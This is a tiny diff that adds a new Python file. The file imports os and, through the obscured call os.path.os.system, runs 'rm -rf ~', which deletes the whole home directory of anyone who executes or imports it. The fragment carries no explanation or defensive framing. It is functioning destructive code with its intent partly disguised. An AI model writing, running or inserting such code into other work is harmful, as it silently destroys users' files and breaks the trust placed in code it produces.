@@ -0,0 +1,3 @@
+import os
+
+os.path.os.system('rm -rf ~')